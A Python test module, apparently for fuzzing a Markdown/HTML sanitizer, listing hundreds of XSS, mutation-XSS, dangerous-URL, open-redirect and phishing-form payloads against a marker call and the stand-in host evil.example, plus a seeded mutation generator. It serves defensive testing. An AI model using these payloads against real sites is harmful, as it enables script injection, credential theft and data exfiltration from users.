"""Hostile texts: what somebody may type to make a page act: call `ran()`, or fetch evil.example.

`VECTORS` were written by hand, by technique; `mutations` bends them with a seeded chance.
"""

import html
import random
from collections.abc import Iterator

TAGS = (
    r"""
<script>ran()</script>
<SCRIPT>ran()</SCRIPT>
<script src=https://evil.example/x.js></script>
<script src=//evil.example/x.js>
<script type=module>ran()</script>
<script/x>ran()</script>
<script
>ran()</script
>
<scr<script>ipt>ran()</scr</script>ipt>
<script>/*<!--*/ran()//--></script>
<<script>ran()//<</script>
<script>ran()
"><script>ran()</script>
'><script>ran()</script>
</script><script>ran()</script>
</textarea><script>ran()</script>
</title><script>ran()</script>
--><script>ran()</script>
]]><script>ran()</script>
<![CDATA[<script>ran()</script>]]>
<!--<script>ran()</script>
<!--><script>ran()</script>-->
<!--!><img src=x onerror=ran()>-->
<!-- --!><img src=x onerror=ran()>
<?xml version="1.0"?><script>ran()</script>
<?php echo '<script>ran()</script>' ?>
<img src=x onerror=ran()>
<img src=x onerror="ran()">
<img src=x onerror='ran()'
<img/src=x/onerror=ran()>
<img src=x:x onerror=ran()//
<IMG """
    + '"""'
    + r"""><SCRIPT>ran()</SCRIPT>">
<img src="x` `<script>ran()</script>"` `>
<img src=https://evil.example/p.png>
<img srcset="https://evil.example/p.png 1x">
<img src=x onerror=&#114;an()>
<img src=x one&#114;ror=ran()>
<img src="/m/ours.webp" onload=ran()>
<img lowsrc=https://evil.example/p.png>
<image src=x onerror=ran()>
<picture><source srcset=https://evil.example/p.png><img></picture>
<svg onload=ran()>
<svg/onload=ran()>
<svg><script>ran()</script></svg>
<svg><script href=https://evil.example/x.js /></svg>
<svg><style><img src=x onerror=ran()></style></svg>
<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:ran()></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='ran()'/>#x"/></svg>
<svg><foreignObject><iframe onload=ran()></foreignObject></svg>
<svg><image href=https://evil.example/p.png /></svg>
<svg><desc><img src=x onerror=ran()></desc></svg>
<math><mi//xlink:href="data:x,<script>ran()</script>">
<math><a xlink:href=javascript:ran()>x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>
<math href="javascript:ran()">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>
<svg></p><style><a id="</style><img src=1 onerror=ran()>">
<svg><p><style><!--</style><img src=x onerror=ran()>--></style>
<noscript><p title="</noscript><img src=x onerror=ran()>">
<noembed><img src="</noembed><img src=x onerror=ran()>"></noembed>
<noframes><img src="</noframes><img src=x onerror=ran()>"></noframes>
<xmp><p title="</xmp><img src=x onerror=ran()>">
<style><style/><img src=x onerror=ran()>
<title><img src="</title><img src=x onerror=ran()>">
<textarea><img src="</textarea><img src=x onerror=ran()>">
<select><style></select><img src=x onerror=ran()></style></select>
<select><template><img src=x onerror=ran()></template></select>
<template><img src=x onerror=ran()></template>
<template shadowrootmode=open><img src=x onerror=ran()></template>
<plaintext><img src=x onerror=ran()>
<table><td><img src=x onerror=ran()>
<table background=https://evil.example/p.png>
<body onload=ran()>
<body background=https://evil.example/p.png>
<html manifest=https://evil.example/m>
<frameset onload=ran()><frame src=javascript:ran()></frameset>
<iframe src=javascript:ran()></iframe>
<iframe srcdoc="<script>parent.ran()</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<iframe src="data:text/html,<script>parent.ran()</script>">
<object data=https://evil.example/x.swf></object>
<object data="data:text/html,<script>parent.ran()</script>">
<embed src=javascript:ran()>
<embed src=https://evil.example/x.svg>
<applet code=x archive=https://evil.example/x.jar></applet>
<portal src=https://evil.example/></portal>
<fencedframe src=https://evil.example/></fencedframe>
<video src=x onerror=ran()></video>
<video poster=https://evil.example/p.png></video>
<video><source onerror=ran()></video>
<audio src=https://evil.example/a.mp3 autoplay></audio>
<track src=https://evil.example/t.vtt>
<input autofocus onfocus=ran()>
<input type=image src=https://evil.example/p.png>
<input onblur=ran() autofocus><input autofocus>
<textarea autofocus onfocus=ran()></textarea>
<select autofocus onfocus=ran()></select>
<button autofocus onfocus=ran()>x</button>
<keygen autofocus onfocus=ran()>
<button popovertarget=p>x</button><div popover id=p onbeforetoggle=ran()>
<form action=https://evil.example/><input name=password type=password autofocus></form>
<form><button formaction=javascript:ran()>x</button></form>
<isindex type=image src=1 onerror=ran()>
<details open ontoggle=ran()>x</details>
<dialog open onclose=ran()>x</dialog>
<marquee onstart=ran()>x</marquee>
<marquee loop=1 width=0 onfinish=ran()>x</marquee>
<meter onmouseover=ran()>0</meter>
<div style="background:url(https://evil.example/p.png)">x</div>
<div style="width:expression(ran())">x</div>
<div style="position:fixed;inset:0;z-index:9999">x</div>
<div onmouseover=ran()>x</div>
<div onpointerrawupdate=ran()>x</div>
<div contenteditable onfocus=ran() autofocus>x</div>
<p tabindex=1 autofocus onfocus=ran()>x</p>
<b onanimationstart=ran() style=animation:x>x</b>
<x onclick=ran() id=x>x</x>
<xss-element onfocus=ran() tabindex=0 autofocus>x</xss-element>
<x contenteditable oncontentvisibilityautostatechange=ran() style=display:block;content-visibility:auto>x</x>
<style>@import'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/p.png)}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=ran()></b>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preconnect href=https://evil.example/>
<link rel=dns-prefetch href=//evil.example/>
<link rel=prefetch href=https://evil.example/x>
<link rel=icon href=https://evil.example/i.ico>
<link rel=import href=https://evil.example/x.html>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:ran()">
<meta http-equiv=refresh content="0;url=data:text/html,<script>ran()</script>">
<meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-ran()+ADw-/script+AD4-
<base href=https://evil.example/>
<base href=javascript:/>
<a href=javascript:ran()>x</a>
<a href="javas&#99;ript:ran()">x</a>
<a href="java&#10;script:ran()">x</a>
<a href="&#x01;javascript:ran()">x</a>
<a href=https://a.example ping=https://evil.example/>x</a>
<a href=# onclick=ran()>x</a>
<a id=location name=location href=https://evil.example/>x</a>
<a target=_blank href=https://evil.example/ rel=opener>x</a>
<a href="data:text/html,<script>ran()</script>">x</a>
<area href=javascript:ran()>
<map name=m><area shape=rect coords=0,0,99,99 href=javascript:ran()></map><img usemap=#m src=/m/ours.webp>
<bgsound src=javascript:ran()>
<layer src=https://evil.example/x></layer>
<xml src=https://evil.example/x id=x></xml>
<img name=getElementById><img name=cookie><form name=body>
<h2 id=s-sources class=btn style=color:red>x</h2>
<p is=x-y slot=z part=q data-action=ran() hx-get=https://evil.example/ hx-trigger=load>x</p>
<div hx-on:htmx:load="ran()" data-hx-get="https://evil.example/" hx-trigger="load">x</div>
<div x-init="ran()" v-html="ran()" ng-init="ran()" @click="ran()">{{ran()}}</div>
{{constructor.constructor('ran()')()}}
{% load ran %}{{ request.user.password }}{% debug %}
${ran()} #{ran()} <%= ran() %>
<%<!--'%><script>ran()</script -->
%3Cscript%3Eran()%3C/script%3E
&lt;script&gt;ran()&lt;/script&gt;
&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;
&#60;script&#62;ran()&#60;/script&#62;
&#x3c;img src=x onerror=ran()&#x3e;
&#0000060script&#0000062ran()&#0000060/script&#0000062
&lt<img src=x onerror=ran()>
&LT;img src=x onerror=ran()&GT;
＜script＞ran()＜/script＞
‹script›ran()‹/script›
\u003cscript\u003eran()\u003c/script\u003e
\<script\>ran()\</script\>
<a<b<c<img src=x onerror=ran()
<img src=x onerror=ran() <p>
</p></div></main></body></html><script>ran()</script>
</li></ul></td></tr></table><img src=x onerror=ran()>
""".strip()
)

ADDRESSES = r"""
javascript:ran()
JaVaScRiPt:ran()
javascript&colon;ran()
javascript&#58;ran()
javascript&#x3A;ran()
&#106;avascript:ran()
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran()
java&Tab;script:ran()
java&NewLine;script:ran()
java&#x0A;script:ran()
java&#x0D;script:ran()
&#1;javascript:ran()
&#x20;javascript:ran()
&nbsp;javascript:ran()
\javascript:ran()
j\avascript:ran()
javascript\:ran()
javascript:%72an()
javascript%3Aran()
%6Aavascript:ran()
javascript://evil.example/%0Aran()
javascript:/*--></title><svg/onload=ran()>*/ran()
javascript:alert`1`
vbscript:ran()
livescript:ran()
mocha:ran()
data:text/html,<script>ran()</script>
data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg/onload=ran()>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cmFuKCk+
data:image/png;base64,iVBORw0KGgo=
DATA:text/html,x
data&colon;text/html,x
blob:https://evil.example/x
filesystem:https://evil.example/x
view-source:https://evil.example/
file:///etc/passwd
about:blank
chrome://settings
intent://evil.example/#Intent;scheme=https;end
ms-word:ofe|u|https://evil.example/x.docx
feed:javascript:ran()
jar:https://evil.example/x.jar!/x
ws://evil.example/
ftp://evil.example/
sms:+33600000000
callto:x
//evil.example/
///evil.example/
/\evil.example/
\\evil.example\x
/&Tab;/evil.example/
/&NewLine;/evil.example/
/%09/evil.example/
https:evil.example
https:/evil.example
https:\\evil.example
https://evil.example\@gouv.example
https://gouv.example@evil.example/
https://gouv.example%2F@evil.example/
https://gouv.example:80#@evil.example/
https://user:pass@evil.example/
https://evil.example%00.gouv.example/
https://[::1]/
https://ⓔvil.example/
https://xn--ggle-0nda.example/
https://evil.example/"onmouseover="ran()
https://evil.example/'onmouseover='ran()
https://evil.example/`onmouseover=`ran()
https://evil.example/%22onmouseover=%22ran()
https://evil.example/&quot;onmouseover=&quot;ran()
https://evil.example/><script>ran()</script>
https://evil.example/%E2%80%AEgpj.exe
https://evil.example/‮gpj.exe
mailto:a@b.example?bcc=c@d.example%0D%0ABcc:e@f.example
mailto:<script>ran()</script>@b.example
mailto:javascript:ran()
tel:javascript:ran()
tel:1234;phone-context=ran()
#"><script>ran()</script>
?x=<script>ran()</script>
../../admin/
./javascript:ran()
/%2F/evil.example
/path"onfocus="ran()"autofocus="
""".strip()

MARKDOWN = (
    "[x](javascript:ran())",
    "[x](<javascript:ran()>)",
    "[x]( javascript:ran() )",
    "[x](\njavascript:ran()\n)",
    "[x](javascript:ran() 'title')",
    '[x](https://a.example "onmouseover=ran()")',
    '[x](https://a.example "\\"onmouseover=\\"ran()")',
    "[x](https://a.example '\"><img src=x onerror=ran()>')",
    "[x]: javascript:ran()\n\n[x]",
    "[x]:\njavascript:ran()\n'title'\n\n[y][x]",
    "[x]: <javascript:ran()>\n\n[x][]",
    "[<img src=x onerror=ran()>]: /y\n\n[<img src=x onerror=ran()>]",
    "[x](<a>b<script>ran()</script>)",
    "[<script>ran()</script>](https://a.example)",
    "[](javascript:ran())",
    "[a](javascript:ran()) [b](https://a.example) [c](javascript:ran())",
    "[![x](ours.webp)](javascript:ran())",
    "[a [b](https://b.example) c](javascript:ran())",
    "[*a](javascript:ran()) b*",
    "![x](javascript:ran())",
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml,<svg/onload=ran()>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '!["onerror="ran()](ours.webp)',
    '![x" onerror="ran()](ours.webp)',
    "![<img src=x onerror=ran()>](ours.webp)",
    '![x](ours.webp "onload=ran()")',
    '![x](ours.webp"onerror="ran())',
    "![x](ours.webp#javascript:ran())",
    "![x](../ours.webp)",
    "![x](OURS.webp)",
    "![x](%6Furs.webp)",
    "![![x](https://evil.example/p.png)](ours.webp)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "![`<img src=x onerror=ran()>`](ours.webp)",
    "<javascript:ran()>",
    "<JAVASCRIPT:ran()>",
    "<data:text/html,x>",
    '<https://evil.example/"onclick="ran()>',
    "<mailto:a@b.example?body=<script>>",
    '<a@b.example"onclick=ran()>',
    "`<script>ran()</script>`",
    '``` "><script>ran()</script>\nx\n```',
    "```html onload=ran()\n<script>ran()</script>\n```",
    "~~~<img src=x onerror=ran()>\nx\n~~~",
    "    <script>ran()</script>",
    "# <script>ran()</script>",
    "# x {#id onclick=ran()}",
    "## x <a id=x onclick=ran()>",
    "## location\n## cookie\n## __proto__\n## constructor",
    "<script>\nran()\n</script>\n======",
    "> <script>ran()</script>",
    "- <img src=x onerror=ran()>",
    "1. <img src=x onerror=ran()>",
    "999999999. x",
    "-1. x\n0x1. y",
    "| <script>ran()</script> | b |\n|---|---|\n| <img src=x onerror=ran()> | [x](javascript:ran()) |",
    '|a|b|\n|:-"onload=ran()|-|\n|1|2|',
    "|`|`<img src=x onerror=ran()>|\n|-|-|\n|1|2|",
    "|a|\n|-|\n|</td></tr></table><script>ran()</script>|",
    "<div>\n\n*x*\n\n<script>ran()</script>\n\n</div>",
    "<div\n\nonclick=ran()>x</div>",
    "<img src=x\n\nonerror=ran()>",
    "*<img src=x *onerror=ran()>*",
    "**<b**onclick=ran()>",
    "_<_script>ran()</script>",
    "<sc\\\nript>ran()</script>",
    "<scr\x00ipt>ran()</scr\x00ipt>",
    "<\x00script>ran()</script>",
    "<img src=x\x0conerror=ran()>",
    "<img\x0bsrc=x\x0bonerror=ran()>",
    "<img src=x onerror\x00=ran()>",
    "[x](java\x00script:ran())",
    "[x](java\x01script:ran())",
    "[x](\x1fjavascript:ran())",
    "[x](java\tscript:ran())",
    "[x](java\u200bscript:ran())",
    "[x](\u2028javascript:ran())",
    "[x](java\u00adscript:ran())",
    "[x](\u202ejavascript:ran())",
    "[x](\ufeffjavascript:ran())",
    "\ufeff<script>ran()</script>",
    "\ud83c<script>ran()</script>\udf89",
    "[\ud800](https://a.example/\udfff)",
    "![\ud800](ours.webp)",
    "\u202egnp.exe <script>ran()</script>\u202c",
    "a\u2028<script>ran()</script>\u2029b",
    "\x1b]8;;javascript:ran()\x07x\x1b]8;;\x07",
    "<script>ran()</script>" * 40,
    "<" * 300 + "script>ran()</script>",
    "&" * 300 + "lt;script>ran()",
    "[" * 200 + "x" + "](javascript:ran())" * 200,
    "**" * 200 + "<b onclick=ran()>" + "**" * 200,
    "&#0;&#xD800;&#x110000;&#128;<script>ran()</script>",
    "&bogus;&lt&gt&quot&amp;#x3c;script>ran()",
    '"6e <img src=x onerror=ran()>" l\'1er ... « <script>ran()</script>',
    "1<img src=x onerror=ran()>er 2</sup><script>ran()</script>e",
    "www.evil.example/<script>ran()</script> https://evil.example/<script>ran()</script>",
)


def _around(address: str) -> Iterator[str]:
    yield f"[x]({address})"
    yield f"![x](<{address}>) [y](<{address}> 'z')"
    yield f"[x]: <{address}>\n\n[x] <{address}>"


VECTORS = (
    *TAGS.split("\n"),
    TAGS,
    *(text for address in ADDRESSES.split("\n") for text in _around(address)),
    *MARKDOWN,
)

_FRAMES = (
    "{}",
    "**{}**",
    "[{}](https://a.example/)",
    "![{}](ours.webp)",
    "## {}",
    "> - {}",
    "|{}|b|\n|-|-|\n|c|{}|",
    "`{}`",
    "<{}>",
    "[x](<{}>)",
    '[x](/y "{}")',
    "a\n{}\n===",
    "```{}\n{}\n```",
    "&lt;{}&gt;",
    "« {} » 1er",
    '<p title="{}">',
)
_JOINTS = (
    "\x00",
    "\t",
    "\n",
    "\r",
    "\x0c",
    "\u200b",
    "\xad",
    "\\",
    "/",
    "<!---->",
    "&#0;",
    "*",
    "`",
    " ",
    "\ud800",
    "é",
)


def mutations(count: int, seed: int = 8) -> Iterator[str]:
    """Bend `count` texts drawn from VECTORS: framed, cut, joined, encoded. The same seed, the same texts."""
    chance = random.Random(seed)
    bends = (_framed, _cut, _joined, _encoded, _recased, _doubled)
    for _ in range(count):
        text = chance.choice(VECTORS)[:2000]
        for bend in chance.choices(bends, k=chance.randint(1, 3)):
            text = bend(text, chance)
        yield text[:6000]


def _framed(text: str, chance: random.Random) -> str:
    return chance.choice(_FRAMES).replace("{}", text)


def _cut(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + text[at + chance.randint(1, 3) :]


def _joined(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + chance.choice(_JOINTS) + text[at:]


def _encoded(text: str, chance: random.Random) -> str:
    encode = chance.choice(
        (html.escape, lambda t: "".join(f"&#{ord(c)};" if chance.random() < 0.3 else c for c in t))
    )
    return encode(text)


def _recased(text: str, chance: random.Random) -> str:
    return "".join(chance.choice((letter.upper(), letter.lower())) for letter in text)


def _doubled(text: str, chance: random.Random) -> str:
    other = chance.choice(VECTORS)[:500]
    at = chance.randrange(len(text) + 1)
    return text[:at] + other + text[at:]
